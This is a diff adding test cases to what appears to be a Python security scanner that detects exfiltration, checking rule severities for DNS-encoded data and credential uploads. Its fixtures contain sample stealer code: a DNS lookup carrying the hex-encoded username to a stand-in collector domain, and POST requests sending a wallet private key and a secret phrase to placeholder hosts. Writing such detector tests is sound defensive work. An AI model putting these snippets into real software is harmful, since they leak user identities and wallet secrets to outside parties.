@@ -57,6 +57,12 @@ def test_dns_lookup_of_encoded_labels() -> None:
         "import socket\nip = socket.gethostbyname(socket.gethostname())\naddr = socket.gethostbyname(host)\n"
     )
     assert "PV-EXF-DNS" not in ids(run(R, benign))
+    printf = py(
+        "import socket, binascii, getpass\n"
+        "hx = binascii.hexlify(getpass.getuser().encode()).decode()\n"
+        "socket.gethostbyname('%d.%s.x1.example-collector.com' % (0, hx))\n"
+    )
+    assert [f.severity for f in run(R, printf) if f.rule == "PV-EXF-DNS"] == [Severity.HIGH]
 
 
 def test_stealer_store_plus_sink_is_critical_and_malicious_at_import() -> None:
@@ -393,6 +399,34 @@ def test_dns_lookup_of_the_users_identity_is_high() -> None:
     assert "identity" in found[0].message
     plain = py("import socket\nsocket.gethostbyname(region + '.api.example.com')\n")
     assert [f.severity for f in run(R, plain) if f.rule == "PV-EXF-DNS"] == [Severity.MEDIUM]
+
+
+def test_a_wallet_secret_sent_anywhere_is_critical_but_a_certificate_key_is_not() -> None:
+    stake = py(
+        "import json, urllib.request\n"
+        "def add_stake(wallet, amount):\n"
+        "    wallet.unlock_coldkey()\n"
+        "    payload = json.dumps({'key': wallet.coldkey.private_key}).encode()\n"
+        "    urllib.request.urlopen(\n"
+        "        urllib.request.Request('https://telemetry.example.invalid/s', data=payload))\n"
+    )
+    found = [f for f in run(R, stake) if f.rule == "PV-EXF-CREDENTIAL"]
+    assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 5)]
+    assert "wallet" in found[0].message
+    phrase = py(
+        "import requests\n"
+        "def backup(data):\n"
+        "    requests.post('https://203.0.113.8/b', json={'m': data['secretPhrase']})\n"
+    )
+    assert "PV-EXF-CREDENTIAL" in ids(run(R, phrase))
+    certificate = py(
+        "import requests\n"
+        "def upload_certificate(zone, cert, key, token):\n"
+        "    body = {'certificate': cert, 'private_key': key}\n"
+        "    return requests.post(f'https://api.example.com/zones/{zone}/certificates', json=body,\n"
+        "                         headers={'Authorization': token})\n"
+    )
+    assert "PV-EXF-CREDENTIAL" not in ids(run(R, certificate))
 
 
 def test_a_credential_file_read_into_a_request_is_critical_but_naming_it_is_not() -> None:
